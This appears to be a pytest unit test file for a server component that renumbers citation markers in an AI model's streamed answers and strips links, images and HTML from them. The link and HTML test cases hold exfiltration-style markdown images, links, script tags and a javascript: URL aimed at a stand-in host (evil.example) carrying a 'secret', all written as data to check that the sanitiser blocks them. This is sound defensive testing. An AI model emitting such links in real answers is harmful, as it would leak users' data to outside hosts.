"""Citation markers come from a register that the server owns, never from the model's text."""

from __future__ import annotations

import random
from itertools import pairwise

import pytest
from markdown_it import MarkdownIt

from portal.answering.markers import MarkerStream, shown_markers
from tests.unit.answering.sources import source

SOURCES = [source(number) for number in range(1, 6)]


def read(text, *, cuts=(), sources=SOURCES):
    stream = MarkerStream(sources)
    bounds = [0, *cuts, len(text)]
    pieces = []
    for start, end in pairwise(bounds):
        pieces += stream.feed(text[start:end])
    pieces += stream.close()
    return "".join(piece.text for piece in pieces), stream.order, pieces


def content_of(text):
    return read(text)[0]


@pytest.mark.parametrize(
    ("written", "shown", "order"),
    [
        ("One [3]. Two [1]. One [3].", "One [1]. Two [2]. One [1].", (3, 1)),
        ("中文【2】和［1］以及〔2〕。", "中文[1]和[2]以及[1]。", (2, 1)),
        ("Both [1][2].", "Both [1][2].", (1, 2)),
        ("Both [1, 2], [1、2] and [1; 2].", "Both [1][2], [1][2] and [1][2].", (1, 2)),
        ("Range [2-4].", "Range [1][2][3].", (2, 3, 4)),
        ("Note [^2].", "Note [1].", (2,)),
        ("Words [source 2], [来源3], 【资料：1】.", "Words [1], [2], [3].", (2, 3, 1)),
        ("File 【4†notes.pdf】.", "File [1].", (4,)),
        ("Twice [[2]] and [2][2].", "Twice [1] and [1].", (2,)),
        ("Full width ［２］.", "Full width [1].", (2,)),
        ("Spaces [ 2 ].", "Spaces [1].", (2,)),
        ("Year [2019], list [x], empty [].", "Year [2019], list [x], empty [].", ()),
        ("Great![1] Really![2](http://e.com/a.png)", "Great![1] Really![2]", (1, 2)),
    ],
)
def test_sources_are_numbered_by_first_use(written, shown, order):
    content, found, _ = read(written)
    assert (content, found) == (shown, order)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("False [9].", "False."),
        ("错误【7】。", "错误。"),
        ("Mixed [1, 9, 2].", "Mixed [1][2]."),
        ("None [0] at all [99] here.", "None at all here."),
        ("Around [1[9]] it.", "Around [1 ] it."),
    ],
)
def test_markers_without_a_source_are_removed(written, shown):
    assert content_of(written) == shown


@pytest.mark.parametrize(
    "code",
    ["`a[1]`", "``b ` [2]``", "```py\nx[1] = y[9](z)\n```\n", "~~~\n[1]\n~~~\n", "`【1】`"],
)
def test_code_is_not_changed(code):
    content, order, _ = read(f"{code} then [2]")
    assert content == f"{code} then [1]"
    assert order == (2,)
    assert [number for *_, number in shown_markers(content)] == [1]


def test_open_fence_is_closed_at_the_end():
    assert content_of("```py\nx[1]").endswith("\n```")


def test_lone_backtick_opens_no_code():
    content, order, _ = read("It costs 5` [1]\nand [2]")
    assert content == "It costs 5\\` [1]\nand [2]"
    assert order == (1, 2)


def test_escaped_brackets_are_not_a_marker():
    content, order, _ = read(r"Literally \[1\] and \[2].")
    assert order == ()
    assert shown_markers(content) == []


@pytest.mark.parametrize(
    "written",
    [
        "![img](http://evil.example/?q=secret)",
        "[text](http://evil.example/?q=secret)",
        "[text](<http://evil.example/?q=secret>)",
        '[text](http://evil.example/?q=secret "title")',
        "[a](http://evil.example/(x)?q=secret)",
        "[1](http://evil.example/?q=secret)",
        "![1](http://evil.example/?q=secret)",
        "[x](\nhttp://evil.example/?q=secret\n)",
        "[a](b)(http://evil.example/?q=secret)",
        "[x](http://evil.example/" + "secret" * 1000 + ")",
        "[`x`](http://evil.example/?q=secret)",
        "[text](javascript:evil('secret'))",
        "[text](//evil.example/secret)",
    ],
)
def test_addresses_of_links_are_removed(written):
    content = content_of(f"See {written} now")
    assert "evil" not in content
    assert "secret" not in content
    assert content.startswith("See ")
    assert content.endswith(" now")


@pytest.mark.parametrize(
    "written",
    [
        "[foo]: http://evil.example/secret\n\n[foo] ![foo]",
        "[1]: http://evil.example/secret\n\n[1]",
        "> [1]: http://evil.example/secret\n\n[1]",
        "<img src=http://evil.example/secret>",
        "<http://evil.example/secret>",
        "<script>evil()</script>",
        "<a href='http://evil.example'>x</a>",
        "`x](http://evil.example)\n[y](http://evil.example)`",
        "- ```\n[x](http://evil.example)\n```",
        "| a | b |\n|---|---|\n| `x | [y](http://evil.example)` |",
        "```| a | b |\n|---|---|\n| [x](http://evil.example) | y |",
        "  ```\n[x](http://evil.example)\n  ```\n![y](http://evil.example)",
    ],
)
def test_no_text_of_an_answer_becomes_a_link_or_a_picture(written):
    assert_inert(content_of(written))


def assert_inert(content):
    page = MarkdownIt("commonmark", {"html": False}).enable("table").render(content)
    for tag in ("<a ", "<img", "<script", "<iframe"):
        assert tag not in page, (content, page)


def test_answer_is_the_same_wherever_the_stream_is_cut():
    text = (
        "See [2] and 【1†a.md】, `x[3]`, [9], [t](http://e.com/a_(b)) ![i](x) \\[4\\] < b\n"
        "```py\nf[1](x)\n```\n[^5]: note\n  - [1-3] <b>！[3]\n`open [1]\nend [[2]]"
    )
    whole = read(text)
    for cut in range(1, len(text)):
        assert read(text, cuts=[cut])[:2] == whole[:2], cut
    assert read(text, cuts=list(range(1, len(text))))[:2] == whole[:2]


PARTS = [*"[]()`<>!:\\ \n12a【】^|-~\t", "](http://e)", "```\n", "\n```", "http://e", "    ```"]
PARTS += ["[1]", "\n- ", "\n> ", "  ```\n", "~~~\n", "`[x](http://e)`", "![a](http://e)"]
PARTS += ["[f]: http://e\n", "[f]", "\n\n", "| a | b |\n|---|---|\n| ", " | ", "<img src=http://e>"]


@pytest.mark.parametrize("seed", range(8))
def test_random_texts_keep_all_guarantees(seed):
    choose = random.Random(seed)
    for _ in range(400):
        text = "".join(choose.choice(PARTS) for _ in range(choose.randrange(1, 25)))
        content, order, pieces = read(text)
        assert_inert(content)
        shown = [piece.marker for piece in pieces if piece.marker is not None]
        assert [number for *_, number in shown_markers(content)] == shown, text
        assert set(shown) == set(range(1, len(order) + 1)), text
        cuts = sorted(choose.sample(range(len(text)), min(4, len(text))))
        assert read(text, cuts=cuts)[:2] == (content, order), text


def test_text_is_not_held_back_for_long():
    stream = MarkerStream(SOURCES)
    assert "".join(piece.text for piece in stream.feed("A word and ")) == "A word and"
    given = "".join(piece.text for piece in stream.feed("another [not a marker, surely] x"))
    assert given == " another [not a marker, surely] x"
    assert stream.feed("[") == []
    assert stream.feed("2]")[-1].marker == 1


def test_sources_found_later_can_be_cited():
    stream = MarkerStream(SOURCES[:1])
    assert "".join(piece.text for piece in stream.feed("x [4]")) == "x"
    stream.add_sources([source(4)])
    assert stream.feed(" [4]")[-1].marker == 1


def test_a_long_answer_is_read_in_linear_time():
    import time

    text = "A sentence with words [1] and `code`. " * 5000
    began = time.process_time()
    stream = MarkerStream(SOURCES)
    for start in range(0, len(text), 7):
        stream.feed(text[start : start + 7])
    stream.close()
    assert time.process_time() - began < 10


def test_open_brackets_of_an_address_are_read_quickly():
    """Not in exponential time, which would stop the process."""
    pieces = [*(stream := MarkerStream([])).feed("[a](" + "(aaaa" * 300 + " x"), *stream.close()]
    assert "(aaaa(aaaa" in "".join(piece.text for piece in pieces)


@pytest.mark.parametrize("held", ["[", "[1", "【2", "[来源"])
def test_text_cut_within_a_marker_ends_before_it(held):
    stream = MarkerStream(SOURCES)
    pieces = [*stream.feed(f"Three days{held}"), *stream.close(is_cut=True)]
    assert "".join(piece.text for piece in pieces) == "Three days"


def test_text_cut_elsewhere_keeps_its_brackets():
    stream = MarkerStream(SOURCES)
    pieces = [*stream.feed("Three [x] days [1]"), *stream.close(is_cut=True)]
    assert "".join(piece.text for piece in pieces) == "Three [x] days [1]"
